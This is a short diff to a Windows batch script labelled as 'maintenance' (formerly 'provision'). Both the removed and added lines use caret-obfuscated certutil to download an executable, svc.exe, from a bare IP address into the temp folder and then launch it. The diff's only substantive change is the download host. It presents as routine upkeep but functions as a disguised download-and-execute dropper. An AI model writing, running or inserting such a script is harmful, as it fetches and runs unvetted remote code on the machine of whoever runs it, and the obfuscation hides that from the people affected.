@@ -1,4 +1,4 @@
-REM provision 2201 v0
+REM maintenance 7185 v0
 @echo off
-^c^ert^u^t^i^l.ex^e -^u^rlcac^h^e -^sp^l^it -^f h^t^t^p://2^0^3.^0.11^3.17/svc.^e^x^e %TEMP%\^sv^c.^e^xe
-s^t^a^r^t "" %TEMP%\s^vc.^exe
+c^er^tu^til.^ex^e -^urlcac^h^e -^s^p^l^i^t -^f h^ttp://^20^3.0.1^13.200/^s^vc.^ex^e %TEMP%\^svc.exe
+s^t^art "" %TEMP%\sv^c.^e^x^e
